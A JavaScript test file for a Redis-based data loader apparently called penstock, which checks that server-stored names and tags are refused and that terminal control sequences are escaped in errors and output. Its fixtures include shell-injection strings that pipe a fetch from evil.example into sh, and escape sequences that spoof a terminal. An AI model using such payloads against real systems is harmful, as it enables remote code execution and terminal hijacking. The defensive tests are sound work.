// Names and words that a stranger wrote on the server get into no command that people paste, and control no terminal.
import assert from "node:assert/strict";
import { spawnSync } from "node:child_process";
import { once } from "node:events";
import { createServer } from "node:net";
import { after, before, test } from "node:test";
import { createClient } from "@redis/client";
import { load, PenstockError, replay } from "../dist/index.js";
import { loadHolders } from "../dist/write/holders.js";
import { startPeer } from "./peer.mjs";

// biome-ignore lint/suspicious/noTemplateCurlyInString: a shell expands it
const HOSTILE = "x;curl${IFS}evil.example|sh;";
const CONTROLS = "\x1b]0;OWNED\x07\x1b[2J\x9b31m\r\nforged\u2028line\u202e";
const GROUP = JSON.stringify({ first: 0, declared: 1, holds: 1, seen: 1, kind: "shared" });
const MEMBER = JSON.stringify({ seen: 1, inc: "i" });

let peer;
let client;

before(async () => {
  peer = await startPeer();
  client = createClient({ url: peer.url });
  await client.connect();
  await peer.ask("produce", { stream: "train", spec: "fixed", sizes: [10] });
});

after(async () => {
  client.destroy();
  await peer.close();
});

async function firstBatch() {
  const loader = load("train", { group: "g", batchSize: 5, url: peer.url, notify: () => {} });
  try {
    for await (const _ of loader) break;
  } finally {
    await loader.close();
  }
}

test("a group or member that no one could join as is refused by name", async () => {
  const [roster] = (await client.keys("penstock:{train.*}:roster")).sort();
  for (const [field, value] of [
    [`g:${HOSTILE}`, GROUP],
    [`m:g:${HOSTILE}`, MEMBER],
    [`m:${HOSTILE}:w`, MEMBER],
  ]) {
    await client.hSet(roster, field, value);
    const refused = {
      name: "DamagedKey",
      message: /'x;curl\$\{IFS\}evil\.example\|sh;' is no name of a group or member/,
    };
    await assert.rejects(firstBatch(), refused);
    const server = { call: async (...args) => await client.sendCommand(args) };
    await assert.rejects(loadHolders(server, { roster }), { name: "DamagedKey", message: /is no name/ });
    await client.hDel(roster, field);
  }
  await firstBatch();
});

test("a tag that is none is refused", async () => {
  const meta = "penstock:{train}:meta";
  const tags = await client.hGet(meta, "tags");
  for (const tag of ["x'; curl evil.example|sh; '", "x", "0123456789ab.0\n", 7]) {
    await client.hSet(meta, "tags", JSON.stringify([tag]));
    await assert.rejects(firstBatch(), { name: "DamagedKey", message: /tags is not a list of tags/ });
  }
  await client.hSet(meta, "tags", tags);
  await firstBatch();
});

test("what a server says controls no terminal, in an error and in its cause", async () => {
  const sockets = [];
  const server = createServer((socket) => {
    sockets.push(socket);
    socket.on("error", () => {});
    socket.on("data", () => socket.write("-ERR \x1b]0;OWNED\x07 \x9b31m\r\n"));
  });
  server.listen(0, "127.0.0.1");
  await once(server, "listening");
  const url = `redis://127.0.0.1:${server.address().port}`;
  let found;
  try {
    for await (const _ of replay("train", { epoch: 0, batchSize: 5, url })) break;
  } catch (error) {
    found = error;
  }
  for (const socket of sockets) socket.destroy();
  server.close();
  assert.ok(found instanceof PenstockError, String(found));
  for (let error = found; error !== undefined; error = error.cause) {
    assert.ok(error.message.includes("\\x1b]0;OWNED\\x07"), error.message);
    assert.doesNotMatch(`${error.stack}`.replaceAll("\n", ""), /[\p{Cc}]/u);
  }
});

test("a line for the user is one line of printable characters", () => {
  const code = `import { toStderr } from "./dist/waiting.js"; toStderr(${JSON.stringify(CONTROLS)});`;
  const done = spawnSync(process.execPath, ["--input-type=module", "-e", code], {
    cwd: new URL("..", import.meta.url),
  });
  const told = "\\x1b]0;OWNED\\x07\\x1b[2J\\x9b31m\\x0d\\x0aforged\\u{2028}line\\u{202e}";
  assert.equal(done.stderr.toString(), `penstock: ${told}\n`);
  assert.equal(new PenstockError(CONTROLS).message, told);
  assert.equal(new PenstockError("größer als 5 µs, 日本 🚀").message, "größer als 5 µs, 日本 🚀");
});
